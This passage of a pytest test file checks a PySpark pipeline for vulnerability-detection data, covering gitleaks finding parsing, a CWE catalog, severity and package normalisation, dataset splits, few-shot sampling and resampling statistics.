    (tmp_path / "g.json").write_text(json.dumps([{"File": ".env", "StartLine": 2, "RuleID": "key", "Secret": "REDACTED", "Match": "k=REDACTED"}, {"File": "x", "RuleID": "key", "Secret": "abc", "Match": "abc"}]))
    got = R.tool_findings(spark, f"{tmp_path}/g.json", "gitleaks")
    assert [(r.file, r.cwe, r.severity, r.redacted) for r in got.collect()] == [(".env", "CWE-798", "HIGH", True), ("x", "CWE-798", "HIGH", False)] and "Secret" not in got.columns
    from siltstone.operators import records

    text = 'CWE-ID,Name,Weakness Abstraction,Description,Related Weaknesses\n1,One,Pillar,"d, e",\n2,Two,Base,,"::NATURE:ChildOf:CWE ID:1:VIEW ID:1000::NATURE:ChildOf:CWE ID:1:VIEW ID:7::"\nx,bad,,,\n'
    with zipfile.ZipFile(tmp_path / "c.zip", "w") as z:
        z.writestr("1000.csv", text)
    rows = {r.cwe: (r.name, r.description, r.parents, r.children) for r in records.class_catalog(R.catalog_rows(spark, f"{tmp_path}/c.zip")).collect()}
    assert rows == {"CWE-1": ("One", "d, e", [], ["CWE-2"]), "CWE-2": ("Two", "", ["CWE-1"], [])}


def test_oversized_replies_are_known_absences(spark):
    asks, cache = spark.createDataFrame([("a", "p")], "key string, prompt string"), spark.createDataFrame([], "key string, reply string")
    assert R.with_cache(asks, cache, "key", R.stub_model, "key string, reply string", largest=5).first().reply == ""


def test_sql_functions_equal_columns(spark):
    from siltstone.functions.register import register

    assert "clean_version" in register(spark)
    rows = [("^1.2.3", "PyPI", "A_b.c", "MODERATE"), ('">=4.1-rc1"', "npm", " Left ", "high"), ("latest", "Maven", "g:A", None), ("2.0, <3", "PyPI", "x", "LOW"), (None, None, None, "CRITICAL"), ("a\u00a0 b\tc", "npm", "", "")]
    df = spark.createDataFrame(rows, "v string, eco string, name string, sev string")
    df.createOrReplaceTempView("odd_rows")
    sql = spark.sql("SELECT clean_version(v), norm_hash(v), hash_unit(v), normal_package(eco, name), normal_severity(sev), severity_rank(sev) FROM odd_rows").collect()
    want = df.select(T.clean_version(F.col("v")), T.norm_hash(F.col("v")), T.hash_unit(F.col("v")), T.normal_package(F.col("eco"), F.col("name")), T.normal_severity(F.col("sev")), T.severity_rank(F.col("sev"))).collect()
    assert list(map(tuple, sql)) == list(map(tuple, want))


def test_paged_windows(spark, tmp_path):
    def fetch(start, stop, at, size):
        if at == 2 and not (mark := tmp_path / f"{start}").exists():
            mark.write_text("failed once")
            raise OSError("try again")
        every = [f"{start}-{k}" for k in range(5)]
        return every[at : at + size], 5

    pages = spark.createDataFrame([("a", "b"), ("c", "d")], "start string, stop string")
    got = sorted((r.start, r.place, r.record) for r in R.paged(pages, fetch, size=2).collect())
    assert got == [(s, k, f"{s}-{k}") for s in "ac" for k in range(5)]
    with pytest.raises(Exception):
        R.paged(pages, lambda *a: (_ for _ in ()).throw(OSError("down")), tries=2).collect()


def test_html_report(spark, tmp_path):
    assert R.html_report(spark.createDataFrame([("<a>", None)], "x string, y int"), f"{tmp_path}/r.html", "A & B") == 1
    text = (tmp_path / "r.html").read_text()
    assert "&lt;a&gt;" in text and "A &amp; B" in text
    with pytest.raises(Exception):
        R.html_report(spark.range(3).toDF("x"), f"{tmp_path}/r.html", "again")
    with pytest.raises(ValueError):
        R.html_report(spark.range(9).toDF("x"), f"{tmp_path}/s.html", "long", most=3)


def test_groups_without_positives_share_a_split(spark):
    rows = [(i, f"r{i % 17}", "py", int(i % 17 == 3)) for i in range(200)]
    df = spark.createDataFrame(rows, "sample_id int, repo string, language string, label int")
    for got in (C.stratified_split(df, "repo", "language"), C.plain_split(df, "repo")):
        got = {r.repo: r.split for r in got.collect()}
        assert len(got) == 17 and got["r3"] == "train" and len({s for g, s in got.items() if g != "r3"}) == 1
    none = C.stratified_split(df.filter("label = 0"), "repo", "language").collect()
    assert len(none) == 16 and {r.split for r in none} == {"train"} and C.plain_split(df.limit(0), "repo").count() == 0


def test_three_step_answers(spark):
    df = spark.createDataFrame([(1, "why?"), (2, "how?")], "key int, prompt string")
    got = {r.key: r for r in X.criticised(df, lambda ps: [f"<{p.count(chr(10))}>" for p in ps]).collect()}
    assert got[1].first == "<0>" and got[1].critique == "<5>" and got[1].reply == "<8>" and len(got) == 2


def test_drop_reasons_in_order(spark):
    cols = "cve_id string, sha string, message string, language string, n_files int, n_functions int"
    rows = [("a", "1", "fix", "c", 1, 1), ("a", "2", "Bump version", "c", 1, 1), ("a", "3", "fix", "c", 1, 1), ("b", "1", "fix", None, 1, 1), ("c", "1", "fix", "c", 9, 99), ("d", "1", "fix", "c", 8, 13)]
    got = {(r.cve_id, r.sha): r.reason for r in C.drop_reasons(spark.createDataFrame(rows, cols), ["c"]).collect()}
    assert got == {("a", "1"): "kept", ("a", "2"): "noisy_message", ("a", "3"): "too_many_commits", ("b", "1"): "language", ("c", "1"): "too_many_files", ("d", "1"): "too_many_functions"}


def test_tools(spark):
    got = spark.createDataFrame([(["java", "python", "cobol"],), ([],)], "l array<string>").select(T.tools_for(F.col("l"))).collect()
    assert [r[0] for r in got] == [["semgrep", "bandit", "gitleaks"], ["gitleaks"]]


def test_fixtures_are_what_they_look_like(spark):
    from siltstone.operators.fixtures import TEMPLATES, fixtures

    f = fixtures(spark, 300).cache()
    assert f.exceptAll(fixtures(spark, 300)).count() == 0 and f.select("technique", F.col("path").substr(-4, 4)).distinct().count() >= 6
    found = {r.path for r in D.scan(f).select("path").distinct().collect()}
    assert all((r.path in found) == r.is_malicious and "{" not in r.path for r in f.collect())
    assert f.select(F.regexp_replace("path", "^f[0-9]+/", "")).distinct().count() > len(TEMPLATES) and fixtures(spark, 0).count() == 0


def test_few_shots_of_small_pools(spark):
    """A language with too few samples draws from all; a missing side is made up by the other, going round."""
    rows = spark.createDataFrame([("a",), ("b",), (None,), ("a",)], "language string")
    pool = spark.createDataFrame([(k, "a", int(k % 3 == 0)) for k in range(20)] + [(100, "b", 1), (101, "b", None)], "sample_id int, language string, label int")
    got = {}
    for r in S.few_shots(rows, pool, 4).collect():
        got.setdefault(r.language, {})[r.place] = (r.label, r.sample_id)
    assert set(got) == {"a", "b", None} and all([x[k][0] for k in range(4)] == [1, 0, 1, 0] for x in got.values()) and got["b"] == got[None]
    assert all(s < 100 for _, s in got["a"].values()) and len(set(got["a"].values())) == 4
    ones = S.few_shots(rows, pool.filter("label = 1 and sample_id < 7"), 5).filter("language = 'a'").collect()
    assert [x.label for x in ones] == [1] * 5 and len({x.sample_id for x in ones}) == 3
    assert S.few_shots(rows, pool.limit(0), 3).collect() == []


@pytest.mark.parametrize("seed", range(4))
def test_greedy_in_pieces_is_plain_greedy(spark, seed):
    """Half of all rows lie in one file; pieces cut it, and the matches stay those of the whole file."""
    rng = random.Random(seed)
    row = lambda k: ("hot" if rng.random() < 0.5 else f"f{rng.randint(0, 4)}", k, rng.choice([0, 300, 700, 2000]) + rng.randint(0, 25))
    a = spark.createDataFrame([row(k) for k in range(150)], "file string, ai int, line int")
    b = spark.createDataFrame([row(1000 + k) for k in range(150)], "file string, static int, line_r int")
    c = L.band_candidates(a, b, "file", "line", 3)
    pieces = L.band_pieces(a, b, "file", "line", 3)
    got = L.greedy_matches(c.join(pieces, ["file", "line"]), "file", "ai", "static", "piece")
    assert sorted(map(tuple, got.collect())) == sorted(map(tuple, L.greedy_matches(c, "file", "ai", "static").collect()))
    assert pieces.filter("file = 'hot'").select("piece").distinct().count() >= 4


def test_audit_of_inputs(spark):
    df = spark.createDataFrame([(1, "a"), (2, None), (3, "c")], "k int, t string")
    m = C.content_manifest(df, "k", "t")
    assert C.manifest_changes(m, m, "k").isEmpty() and C.assert_unchanged(m, m, "k") is m
    later = C.content_manifest(spark.createDataFrame([(2, ""), (3, "c"), (4, "d")], "k int, t string"), "k", "t")
    assert sorted(map(tuple, C.manifest_changes(m, later, "k").collect())) == [(1, "removed"), (2, "changed"), (4, "added")]
    with pytest.raises(ValueError, match="changed during the run"):
        C.assert_unchanged(m, later, "k")


def test_own_names_in_any_scope(spark):
    rows = spark.createDataFrame([("r", "Pkg"), ("r", "other"), ("s", "pkg"), ("r", "deep")], "repo string, name string")
    names = spark.createDataFrame([("r", "@Org/pkg"), ("r", "@a/b/deep"), ("s", None)], "repo string, name string")
    assert sorted(map(tuple, L.not_own(rows, names, "name").collect())) == [("r", "other"), ("s", "pkg")]


def test_budget_of_tied_paths(spark):
    files = spark.createDataFrame([("r", p, 0, 1) for p in ("B.py", "b.py", "a.py", "c.py")] + [(None, "d.py", 0, 1)], "repo string, path string, hits int, size int")
    got = {r.path: r.selected for r in S.scan_budget(files, 2, 10).collect()}
    assert got == {"a.py": True, "B.py": True, "b.py": False, "c.py": False, "d.py": True}


def test_binomial_draws(spark):
    """Against the whole distribution function, and within bounds for sizes that no row could be drawn for."""
    cases = [(n, p, u) for n in (1, 2, 7, 50, 400) for p in (0.0, 0.01, 0.3, 0.5, 0.97, 1.0) for u in (1e-9, 0.02, 0.3, 0.5, 0.77, 0.999, 1 - 1e-9)]
    got = spark.createDataFrame(cases, "n long, p double, u double").withColumn("k", E.binomial(F.col("n"), F.col("p"), F.col("u"))).collect()
    for r in got:
        mass = [math.comb(r.n, k) * r.p**k * (1 - r.p) ** (r.n - k) for k in range(r.n + 1)]
        assert r.k == next((k for k in range(r.n + 1) if sum(mass[: k + 1]) >= r.u), r.n), r
    big = spark.createDataFrame([(10**8, 0.25, 0.5), (10**8, 0.25, 0.975)], "n long, p double, u double").select(E.binomial(F.col("n"), F.col("p"), F.col("u")).alias("k")).collect()
    assert abs(big[0].k - 25_000_000) <= 1 and abs(big[1].k - 25_000_000 - 1.96 * math.sqrt(10**8 * 0.25 * 0.75)) < 30


def test_resampled_cells_have_the_shares_of_the_rows(spark):
    preds = spark.createDataFrame([("a", k, int(k % 4 == 0), int(k % 3 == 0)) for k in range(600)] + [("b", 1, 1, 1)], "config string, sample_id int, pred int, truth int")
    cells = [r for r in E.resampled_cells(preds, 300).collect()]
    assert len(cells) == 600 and all(r.tp + r.fp + r.tn + r.fn == r.n and min(r.tp, r.fp, r.tn, r.fn) >= 0 for r in cells)
    for name, want in (("tp", 50), ("fp", 100), ("tn", 300), ("fn", 150)):
        own = [r[name] for r in cells if r.config == "a"]
        mean = sum(own) / 300
        spread = math.sqrt(sum((x - mean) ** 2 for x in own) / 299)
        assert abs(mean - want) < 4 * math.sqrt(want * (1 - want / 600) / 300) and 0.8 < spread / math.sqrt(want * (1 - want / 600)) < 1.2
    assert all((r.tp, r.n) == (1, 1) for r in cells if r.config == "b")
